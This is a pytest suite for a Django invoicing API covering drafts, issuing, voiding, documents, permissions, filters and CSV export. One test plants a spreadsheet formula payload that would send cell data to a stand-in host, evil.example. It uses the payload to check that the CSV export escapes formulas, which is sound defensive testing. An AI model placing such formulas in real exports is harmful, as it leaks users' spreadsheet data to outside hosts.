"""`/invoices/` (design billing.md, API): the representation with its lines, drafts made and
edited, issuing one or many, void and adjust, the documents, filters, CSV and who sees what."""

from datetime import date, timedelta

import pytest
from django.utils import timezone

from billing.models import Invoice, InvoiceKind, InvoiceLine, InvoiceStatus
from tests.api.billing.conftest import client_for
from tests.billing.factories import make_invoice, make_series
from tests.factories import make_company, make_manager, make_park
from tests.tenants.helpers import problem, validation_problem

pytestmark = pytest.mark.django_db

LIST = "/api/v1/invoices/"
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def detail(invoice) -> str:
    return f"{LIST}{invoice.pk}/"


def issued(park, company, *, number=None, month=date(2027, 1, 1), **overrides):
    return make_invoice(
        park=park,
        company=company,
        month=month,
        status=InvoiceStatus.ISSUED,
        number=number,
        **overrides,
    )


def line_body(**overrides) -> dict:
    body = {
        "description": "Phí gửi xe tháng 1/2027",
        "quantity": "2.5",
        "unit_of_measure": "xe",
        "unit_price_vnd": 333_333,
        "vat_rate": "8",
    }
    body.update(overrides)
    return body


# --- the representation -------------------------------------------------------------------


def test_a_draft_answers_its_lines_totals_and_no_number(manager_client, park, company):
    invoice = make_invoice(park=park, company=company, lines=[(1_000_000, "10"), (2_500_000, "8")])
    response = manager_client.get(detail(invoice))
    assert response.status_code == 200
    assert response["ETag"] == '"1"'
    body = response.json()
    lines = list(invoice.lines.order_by("position"))
    assert body == {
        "id": str(invoice.pk),
        "park": str(park.pk),
        "company": str(company.pk),
        "company_name": "Công ty Cổ phần Phần mềm Đồng Tháp",
        "month": "2027-01-01",
        "kind": "normal",
        "status": "draft",
        "series": None,
        "number": None,
        "number_display": None,
        "issue_date": None,
        "due_date": None,
        "replaces": None,
        "buyer_legal_name": "",
        "buyer_tax_code": "",
        "buyer_address": "",
        "subtotal_vnd": 3_500_000,
        "vat_vnd": 300_000,
        "total_vnd": 3_800_000,
        "paid_vnd": 0,
        "balance_vnd": 3_800_000,
        "overdue": False,
        "note": "",
        "void_reason": "",
        "voided_at": None,
        "lines": [
            {
                "id": str(lines[0].pk),
                "position": 1,
                "kind": "manual",
                "description": "Dòng 1",
                "lease": None,
                "charge": None,
                "usage": None,
                "quantity": 1.0,
                "unit_of_measure": "tháng",
                "unit_price_vnd": 1_000_000,
                "amount_vnd": 1_000_000,
                "vat_rate": "10",
                "vat_vnd": 100_000,
            },
            {
                "id": str(lines[1].pk),
                "position": 2,
                "kind": "manual",
                "description": "Dòng 2",
                "lease": None,
                "charge": None,
                "usage": None,
                "quantity": 1.0,
                "unit_of_measure": "tháng",
                "unit_price_vnd": 2_500_000,
                "amount_vnd": 2_500_000,
                "vat_rate": "8",
                "vat_vnd": 200_000,
            },
        ],
        "version": 1,
        "created_at": body["created_at"],
        "updated_at": body["updated_at"],
    }


def test_an_issued_invoice_past_due_with_a_balance_is_overdue(manager_client, park, company):
    today = timezone.localdate()
    invoice = issued(
        park, company, issue_date=today - timedelta(days=20), due_date=today - timedelta(days=5)
    )
    body = manager_client.get(detail(invoice)).json()
    assert (body["number_display"], body["overdue"], body["balance_vnd"]) == (
        "1C27TSP-00000001",
        True,
        1_100_000,
    )


# --- drafts -------------------------------------------------------------------------------


def test_a_manager_makes_an_empty_draft_for_a_companys_month(manager_client, park, company):
    response = manager_client.post(
        LIST, {"park": str(park.pk), "company": str(company.pk), "month": "2027-03"}
    )
    assert response.status_code == 201
    invoice = Invoice.objects.get()
    body = response.json()
    assert (body["id"], body["month"], body["kind"], body["status"], body["lines"]) == (
        str(invoice.pk),
        "2027-03-01",
        "normal",
        "draft",
        [],
    )
    assert (body["total_vnd"], response["ETag"]) == (0, '"1"')


def test_a_second_invoice_for_the_month_is_409_duplicate(manager_client, park, company):
    existing = make_invoice(park=park, company=company, month=date(2027, 3, 1))
    response = manager_client.post(
        LIST, {"park": str(park.pk), "company": str(company.pk), "month": "2027-03-01"}
    )
    assert response.status_code == 409
    body = response.json()
    assert (body["code"], body["type"], body["title"], body["invoice"]) == (
        "duplicate",
        "/problems/duplicate",
        "Duplicate",
        str(existing.pk),
    )
    assert Invoice.objects.count() == 1


@pytest.mark.parametrize("month", ["2027-13", "2027-03-15", "March", ""])
def test_a_month_that_is_not_one_is_400_on_month(manager_client, park, company, month):
    response = manager_client.post(
        LIST, {"park": str(park.pk), "company": str(company.pk), "month": month}
    )
    assert response.status_code == 400
    assert [(e["field"], e["code"]) for e in response.json()["errors"]] == [("month", "invalid")]
    assert Invoice.objects.count() == 0


def test_a_manual_line_is_rounded_half_up_and_the_totals_follow(manager_client, park, company):
    invoice = make_invoice(park=park, company=company, lines=[(1_000_000, "10")])
    response = manager_client.post(f"{detail(invoice)}lines/", line_body())
    assert response.status_code == 201
    body = response.json()
    # 2.5 * 333,333 = 833,332.5 -> 833,333; 8 % of it = 66,666.64 -> 66,667.
    assert [
        (line["position"], line["kind"], line["quantity"], line["amount_vnd"], line["vat_vnd"])
        for line in body["lines"]
    ] == [(1, "manual", 1.0, 1_000_000, 100_000), (2, "manual", 2.5, 833_333, 66_667)]
    assert (body["subtotal_vnd"], body["vat_vnd"], body["total_vnd"]) == (
        1_833_333,
        166_667,
        2_000_000,
    )
    assert response["ETag"] == f'"{body["version"]}"'


def test_a_negative_price_is_refused_on_a_normal_draft(manager_client, park, company):
    invoice = make_invoice(park=park, company=company)
    url = f"{detail(invoice)}lines/"
    response = manager_client.post(url, line_body(unit_price_vnd=-50_000))
    message = "Only an adjustment invoice may have a negative price (a credit)."
    assert response.status_code == 400
    assert response.json() == validation_problem("unit_price_vnd", "negative_price", message, url)
    assert invoice.lines.count() == 1


def test_a_line_with_an_unknown_vat_rate_or_field_is_400(manager_client, park, company):
    invoice = make_invoice(park=park, company=company)
    response = manager_client.post(f"{detail(invoice)}lines/", line_body(vat_rate="7", kind="rent"))
    assert response.status_code == 400
    assert sorted((e["field"], e["code"]) for e in response.json()["errors"]) == [
        ("kind", "unknown")
    ]
    response = manager_client.post(f"{detail(invoice)}lines/", line_body(vat_rate="7"))
    assert [(e["field"], e["code"]) for e in response.json()["errors"]] == [
        ("vat_rate", "invalid_choice")
    ]
    assert invoice.lines.count() == 1


def test_deleting_a_drafts_line_recomputes_its_totals(manager_client, park, company):
    invoice = make_invoice(park=park, company=company, lines=[(1_000_000, "10"), (500_000, "KCT")])
    line = invoice.lines.get(position=1)
    response = manager_client.delete(f"{detail(invoice)}lines/{line.pk}/")
    assert response.status_code == 204
    invoice.refresh_from_db()
    assert (invoice.subtotal_vnd, invoice.vat_vnd, invoice.total_vnd) == (500_000, 0, 500_000)
    assert list(invoice.lines.values_list("vat_rate", flat=True)) == ["KCT"]


def test_another_invoices_line_is_404(manager_client, park, company):
    invoice = make_invoice(park=park, company=company)
    other = make_invoice(park=park, company=make_company())
    line = other.lines.get()
    response = manager_client.delete(f"{detail(invoice)}lines/{line.pk}/")
    assert response.status_code == 404
    assert InvoiceLine.objects.count() == 2


def test_a_drafts_note_is_patched_with_if_match(manager_client, park, company):
    invoice = make_invoice(park=park, company=company)
    stale = manager_client.patch(detail(invoice), {"note": "Kỳ 1"}, HTTP_IF_MATCH='"7"')
    assert stale.status_code == 412
    assert stale.json()["code"] == "precondition_failed"
    response = manager_client.patch(detail(invoice), {"note": "Kỳ 1"}, HTTP_IF_MATCH='"1"')
    assert response.status_code == 200
    assert (response.json()["note"], response["ETag"]) == ("Kỳ 1", '"2"')
    not_modified = manager_client.get(detail(invoice), HTTP_IF_NONE_MATCH='"2"')
    assert not_modified.status_code == 304


def test_only_the_note_of_a_draft_may_be_patched(manager_client, park, company):
    invoice = make_invoice(park=park, company=company)
    response = manager_client.patch(detail(invoice), {"total_vnd": 1, "status": "issued"})
    assert response.status_code == 400
    assert sorted((e["field"], e["code"]) for e in response.json()["errors"]) == [
        ("status", "read_only"),
        ("total_vnd", "read_only"),
    ]


def test_a_draft_may_be_deleted(manager_client, park, company):
    invoice = make_invoice(park=park, company=company)
    assert manager_client.delete(detail(invoice)).status_code == 204
    assert Invoice.objects.count() == 0


# --- issued invoices never change ----------------------------------------------------------


@pytest.mark.parametrize(
    ("method", "suffix", "body"),
    [
        ("patch", "", {"note": "sửa"}),
        ("delete", "", None),
        ("post", "lines/", line_body()),
        ("post", "issue/", {"issue_date": "2027-02-01"}),
    ],
)
def test_every_write_to_an_issued_invoice_is_409_invalid_transition(
    manager_client, park, company, method, suffix, body
):
    invoice = issued(park, company)
    url = f"{detail(invoice)}{suffix}"
    response = getattr(manager_client, method)(url, body)
    assert response.status_code == 409
    problem_body = response.json()
    assert (problem_body["code"], problem_body["allowed"], problem_body["instance"]) == (
        "invalid_transition",
        ["void"],
        url,
    )
    invoice.refresh_from_db()
    assert (invoice.version, invoice.note, invoice.lines.count()) == (1, "", 1)


def test_a_line_of_an_issued_invoice_cannot_be_deleted(manager_client, park, company):
    invoice = issued(park, company)
    response = manager_client.delete(f"{detail(invoice)}lines/{invoice.lines.get().pk}/")
    assert (response.status_code, response.json()["code"]) == (409, "invalid_transition")
    assert invoice.lines.count() == 1


# --- issuing ------------------------------------------------------------------------------


def test_issuing_numbers_the_draft_snapshots_the_buyer_and_sets_the_due_date(
    manager_client, park, series, company
):
    invoice = make_invoice(park=park, company=company, lines=[(10_000_000, "10")])
    response = manager_client.post(f"{detail(invoice)}issue/", {"issue_date": "2027-02-01"})
    assert response.status_code == 200
    body = response.json()
    assert {
        name: body[name]
        for name in (
            "status",
            "series",
            "number",
            "number_display",
            "issue_date",
            "due_date",
            "buyer_legal_name",
            "buyer_tax_code",
            "buyer_address",
            "total_vnd",
            "balance_vnd",
        )
    } == {
        "status": "issued",
        "series": str(series.pk),
        "number": 1,
        "number_display": "1C27TSP-00000001",
        "issue_date": "2027-02-01",
        "due_date": "2027-02-16",
        "buyer_legal_name": "Công ty Cổ phần Phần mềm Đồng Tháp",
        "buyer_tax_code": company.tax_code,
        "buyer_address": "1 Lê Lợi",
        "total_vnd": 11_000_000,
        "balance_vnd": 11_000_000,
    }
    assert response["ETag"] == f'"{body["version"]}"'


def test_issuing_many_numbers_them_in_the_order_given(manager_client, park, series):
    first, second, third = (make_invoice(park=park) for _ in range(3))
    response = manager_client.post(
        f"{LIST}issue/",
        {"invoices": [str(third.pk), str(first.pk), str(second.pk)], "issue_date": "2027-02-01"},
    )
    assert response.status_code == 200
    assert [(row["id"], row["number"]) for row in response.json()] == [
        (str(third.pk), 1),
        (str(first.pk), 2),
        (str(second.pk), 3),
    ]
    series.refresh_from_db()
    assert series.next_number == 4


def test_issuing_many_is_all_or_nothing(manager_client, park, series, company):
    draft = make_invoice(park=park)
    empty = make_invoice(park=park, lines=[])
    url = f"{LIST}issue/"
    response = manager_client.post(
        url, {"invoices": [str(draft.pk), str(empty.pk)], "issue_date": "2027-02-01"}
    )
    assert response.status_code == 400
    assert response.json()["errors"][0]["field"] == "lines"
    assert response.json()["errors"][0]["code"] == "empty_invoice"
    assert Invoice.objects.filter(status=InvoiceStatus.ISSUED).count() == 0
    series.refresh_from_db()
    assert series.next_number == 1


def test_issuing_many_with_an_unknown_or_repeated_id_is_400(manager_client, park, series):
    draft = make_invoice(park=park)
    url = f"{LIST}issue/"
    unknown = manager_client.post(
        url, {"invoices": [str(draft.pk), "00000000-0000-0000-0000-000000000000"]}
    )
    assert [(e["field"], e["code"]) for e in unknown.json()["errors"]] == [("invoices", "invalid")]
    twice = manager_client.post(url, {"invoices": [str(draft.pk), str(draft.pk)]})
    assert [(e["field"], e["code"]) for e in twice.json()["errors"]] == [("invoices", "duplicate")]
    draft.refresh_from_db()
    assert draft.status == InvoiceStatus.DRAFT


def test_an_empty_draft_cannot_be_issued(manager_client, park, series, company):
    invoice = make_invoice(park=park, company=company, lines=[])
    response = manager_client.post(f"{detail(invoice)}issue/", {"issue_date": "2027-02-01"})
    assert response.status_code == 400
    assert [(e["field"], e["code"]) for e in response.json()["errors"]] == [
        ("lines", "empty_invoice")
    ]


def test_issuing_without_an_active_series_for_the_year_is_409(manager_client, park, company):
    make_series(park, year=2026)
    invoice = make_invoice(park=park, company=company)
    response = manager_client.post(f"{detail(invoice)}issue/", {"issue_date": "2027-01-05"})
    assert response.status_code == 409
    body = response.json()
    assert (body["code"], body["title"], body["year"], body["park"]) == (
        "no_invoice_series",
        "No invoice series",
        2027,
        str(park.pk),
    )
    invoice.refresh_from_db()
    assert invoice.status == InvoiceStatus.DRAFT


def test_an_issue_date_before_the_series_latest_is_400(manager_client, park, series, company):
    first = make_invoice(park=park)
    manager_client.post(f"{detail(first)}issue/", {"issue_date": "2027-02-10"})
    later = make_invoice(park=park, company=company)
    response = manager_client.post(f"{detail(later)}issue/", {"issue_date": "2027-02-09"})
    assert response.status_code == 400
    assert [(e["field"], e["code"]) for e in response.json()["errors"]] == [
        ("issue_date", "before_last_issue")
    ]


# --- void and adjust ----------------------------------------------------------------------


def test_voiding_answers_the_replacement_draft_with_the_same_lines(manager_client, park, company):
    original = issued(park, company, lines=[(4_000_000, "10"), (300_000, "KCT")])
    response = manager_client.post(f"{detail(original)}void/", {"reason": "Sai mã số thuế"})
    assert response.status_code == 200
    body = response.json()
    assert (body["kind"], body["status"], body["replaces"], body["number"]) == (
        "replacement",
        "draft",
        str(original.pk),
        None,
    )
    assert [(line["unit_price_vnd"], line["vat_rate"]) for line in body["lines"]] == [
        (4_000_000, "10"),
        (300_000, "KCT"),
    ]
    assert body["total_vnd"] == 4_700_000
    original.refresh_from_db()
    assert (original.status, original.void_reason) == ("void", "Sai mã số thuế")


def test_voiding_needs_a_reason(manager_client, park, company):
    original = issued(park, company)
    response = manager_client.post(f"{detail(original)}void/", {})
    assert [(e["field"], e["code"]) for e in response.json()["errors"]] == [("reason", "required")]
    original.refresh_from_db()
    assert original.status == InvoiceStatus.ISSUED


def test_a_draft_cannot_be_voided(manager_client, park, company):
    draft = make_invoice(park=park, company=company)
    response = manager_client.post(f"{detail(draft)}void/", {"reason": "x"})
    assert (response.status_code, response.json()["allowed"]) == (409, ["issued"])


def test_an_adjustment_starts_empty_and_takes_a_credit_line(manager_client, park, company):
    original = issued(park, company)
    response = manager_client.post(f"{detail(original)}adjust/")
    assert response.status_code == 201
    body = response.json()
    assert (body["kind"], body["status"], body["replaces"], body["lines"]) == (
        "adjustment",
        "draft",
        str(original.pk),
        [],
    )
    credit = manager_client.post(
        f"{LIST}{body['id']}/lines/",
        line_body(quantity="1", unit_price_vnd=-200_001, vat_rate="10"),
    )
    assert credit.status_code == 201
    # -200,001 * 10 % = -20,000.1 -> -20,000 (half up is away from zero: symmetric).
    assert (
        credit.json()["subtotal_vnd"],
        credit.json()["vat_vnd"],
        credit.json()["total_vnd"],
    ) == (-200_001, -20_000, -220_001)


def test_an_adjust_with_an_idempotency_key_makes_one_draft(manager_client, park, company):
    original = issued(park, company)
    url = f"{detail(original)}adjust/"
    first = manager_client.post(url, HTTP_IDEMPOTENCY_KEY="adjust-1")
    again = manager_client.post(url, HTTP_IDEMPOTENCY_KEY="adjust-1")
    assert (first.status_code, again.status_code) == (201, 201)
    assert again.content == first.content
    assert again["Idempotent-Replayed"] == "true"
    assert Invoice.objects.filter(kind=InvoiceKind.ADJUSTMENT).count() == 1


# --- documents ----------------------------------------------------------------------------


def test_an_issued_invoice_has_a_pdf_and_an_xml(manager_client, park, company):
    invoice = issued(park, company)
    pdf = manager_client.get(f"{detail(invoice)}pdf/")
    assert (pdf.status_code, pdf["Content-Type"]) == (200, "application/pdf")
    assert pdf.content.startswith(b"%PDF-")
    assert pdf["Content-Disposition"] == 'inline; filename="1C27TSP-00000001.pdf"'
    xml = manager_client.get(f"{detail(invoice)}xml/")
    assert (xml.status_code, xml["Content-Type"]) == (200, "application/xml")
    assert b"<SHDon>1</SHDon>" in xml.content


def test_a_drafts_xml_is_409_and_its_pdf_is_served(manager_client, park, company):
    draft = make_invoice(park=park, company=company)
    response = manager_client.get(f"{detail(draft)}xml/")
    assert response.status_code == 409
    assert response["Content-Type"] == "application/problem+json"
    assert (response.json()["code"], response.json()["allowed"]) == (
        "invalid_transition",
        ["issued"],
    )
    pdf = manager_client.get(f"{detail(draft)}pdf/")
    assert (pdf.status_code, pdf["Content-Type"]) == (200, "application/pdf")


# --- who sees what ------------------------------------------------------------------------


def test_a_representative_lists_only_their_companys_issued_invoices(
    representative_client, park, company
):
    mine = issued(park, company)
    make_invoice(park=park, company=company, month=date(2027, 2, 1))  # a draft
    issued(park, make_company())  # another company's
    response = representative_client.get(LIST)
    assert response.status_code == 200
    assert [row["id"] for row in response.json()["results"]] == [str(mine.pk)]


def test_a_representative_gets_404_for_a_draft_and_for_other_companies(
    representative_client, park, company
):
    draft = make_invoice(park=park, company=company)
    others = issued(park, make_company())
    for invoice in (draft, others):
        for suffix in ("", "pdf/", "xml/"):
            response = representative_client.get(f"{detail(invoice)}{suffix}")
            assert (response.status_code, response.json()["code"]) == (404, "not_found")
        response = representative_client.post(f"{detail(invoice)}issue/", {})
        assert response.status_code == 404


def test_a_representative_reads_their_issued_invoice_and_its_documents_but_writes_nothing(
    representative_client, park, company
):
    invoice = issued(park, company)
    assert representative_client.get(detail(invoice)).status_code == 200
    assert representative_client.get(f"{detail(invoice)}pdf/").status_code == 200
    assert representative_client.get(f"{detail(invoice)}xml/").status_code == 200
    for method, suffix, body in [
        ("patch", "", {"note": "x"}),
        ("post", "void/", {"reason": "x"}),
        ("post", "adjust/", None),
    ]:
        url = f"{detail(invoice)}{suffix}"
        response = getattr(representative_client, method)(url, body)
        assert response.status_code == 403
        assert response.json() == problem(
            403,
            "permission_denied",
            "Permission denied",
            "You do not have permission to perform this action.",
            url,
        )
    invoice.refresh_from_db()
    assert (invoice.status, invoice.version) == ("issued", 1)


def test_a_non_manager_cannot_make_or_issue_invoices(representative_client, park, company):
    response = representative_client.post(
        LIST, {"park": str(park.pk), "company": str(company.pk), "month": "2027-01"}
    )
    assert (response.status_code, response.json()["code"]) == (403, "permission_denied")
    response = representative_client.post(f"{LIST}issue/", {"invoices": []})
    assert response.status_code == 403
    assert Invoice.objects.count() == 0


def test_an_outsider_sees_no_invoices_and_anonymous_is_401(
    outsider_client, api_client, park, company
):
    invoice = issued(park, company)
    assert outsider_client.get(LIST).json()["results"] == []
    assert outsider_client.get(detail(invoice)).status_code == 404
    response = api_client.get(LIST)
    assert (response.status_code, response.json()["code"]) == (401, "not_authenticated")


# --- filters, ordering, CSV ---------------------------------------------------------------


def ids(response) -> list[str]:
    assert response.status_code == 200, response.json()
    return [row["id"] for row in response.json()["results"]]


def test_the_list_filters_by_month_written_either_way(manager_client, park, company):
    january = make_invoice(park=park, company=company, month=date(2027, 1, 1))
    make_invoice(park=park, company=company, month=date(2027, 2, 1))
    assert ids(manager_client.get(LIST, {"month": "2027-01"})) == [str(january.pk)]
    assert ids(manager_client.get(LIST, {"month": "2027-01-01"})) == [str(january.pk)]
    response = manager_client.get(LIST, {"month": "2027-01-02"})
    assert [(e["field"], e["code"]) for e in response.json()["errors"]] == [("month", "invalid")]


def test_the_list_filters_overdue_strictly(manager_client, park, company):
    today = timezone.localdate()
    late = issued(
        park, company, issue_date=today - timedelta(days=40), due_date=today - timedelta(days=25)
    )
    on_time = issued(park, make_company(), issue_date=today, due_date=today + timedelta(days=15))
    draft = make_invoice(park=park, company=make_company())
    assert ids(manager_client.get(LIST, {"overdue": "true"})) == [str(late.pk)]
    assert sorted(ids(manager_client.get(LIST, {"overdue": "false"}))) == sorted(
        [str(on_time.pk), str(draft.pk)]
    )
    response = manager_client.get(LIST, {"overdue": "maybe"})
    assert response.status_code == 400
    assert [(e["field"], e["code"]) for e in response.json()["errors"]] == [("overdue", "invalid")]


def test_the_list_filters_by_status_kind_park_company_and_issue_dates(
    manager_client, park, company
):
    other_park = make_park()
    a = issued(park, company, issue_date=date(2027, 1, 5))
    b = issued(park, make_company(), issue_date=date(2027, 1, 20))
    c = make_invoice(park=other_park, company=company)
    assert ids(manager_client.get(LIST, {"status": "draft"})) == [str(c.pk)]
    assert ids(manager_client.get(LIST, {"park": str(other_park.pk)})) == [str(c.pk)]
    assert sorted(ids(manager_client.get(LIST, {"company": str(company.pk)}))) == sorted(
        [str(a.pk), str(c.pk)]
    )
    assert ids(manager_client.get(LIST, {"issued_from": "2027-01-10"})) == [str(b.pk)]
    assert ids(manager_client.get(LIST, {"issued_to": "2027-01-10"})) == [str(a.pk)]
    assert ids(manager_client.get(LIST, {"kind": "adjustment"})) == []
    response = manager_client.get(LIST, {"status": "paid"})
    assert [(e["field"], e["code"]) for e in response.json()["errors"]] == [
        ("status", "invalid_choice")
    ]


def test_the_list_orders_by_total_and_refuses_other_fields(manager_client, park):
    small = make_invoice(park=park, lines=[(100, "10")])
    large = make_invoice(park=park, lines=[(900, "10")])
    middle = make_invoice(park=park, lines=[(500, "10")])
    assert ids(manager_client.get(LIST, {"ordering": "-total_vnd"})) == [
        str(large.pk),
        str(middle.pk),
        str(small.pk),
    ]
    response = manager_client.get(LIST, {"ordering": "buyer_tax_code"})
    assert [(e["field"], e["code"]) for e in response.json()["errors"]] == [("ordering", "invalid")]


def test_the_csv_writes_one_row_per_invoice_with_formulas_as_text(manager_client, park):
    company = make_company(legal_name=HYPERLINK)
    invoice = make_invoice(park=park, company=company, lines=[(1_000_000, "10")], note="-1+1")
    response = manager_client.get(LIST, {"format": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="invoices.csv"'
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    header, row, end = text.removeprefix("\ufeff").split("\r\n")
    assert header == (
        "id,park,company,company_name,month,kind,status,series,number,number_display,"
        "issue_date,due_date,replaces,buyer_legal_name,buyer_tax_code,buyer_address,"
        "subtotal_vnd,vat_vnd,total_vnd,paid_vnd,balance_vnd,overdue,note,void_reason,"
        "voided_at,version,created_at,updated_at"
    )
    assert row.startswith(
        f"{invoice.pk},{park.pk},{company.pk},"
        '"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")",'
        "2027-01-01,normal,draft,,,,,,,,,,1000000,100000,1100000,0,1100000,false,'-1+1,,,1,"
    )
    assert end == ""


def test_a_representatives_csv_holds_only_their_issued_invoices(
    representative_client, park, company
):
    mine = issued(park, company)
    make_invoice(park=park, company=company, month=date(2027, 2, 1))
    response = representative_client.get(LIST, {"format": "csv"})
    rows = response.content.decode("utf-8-sig").split("\r\n")[1:-1]
    assert [row.split(",")[0] for row in rows] == [str(mine.pk)]


@pytest.mark.parametrize("count", [1, 20])
def test_the_list_and_csv_run_the_same_queries_for_one_invoice_or_many(
    park, count, django_assert_max_num_queries
):
    for _ in range(count):
        issued(park, make_company(), lines=[(1_000, "10"), (2_000, "8")])
    client = client_for(make_manager())
    # The caller's groups and throttle count (7, 8 on PostgreSQL), the count, the page, the
    # page's lines.
    with django_assert_max_num_queries(11):
        response = client.get(LIST)
    assert len(response.json()["results"]) == count
    with django_assert_max_num_queries(9):  # no count, no lines
        response = client.get(LIST, {"format": "csv"})
    assert len(response.content.decode("utf-8-sig").split("\r\n")) == count + 2
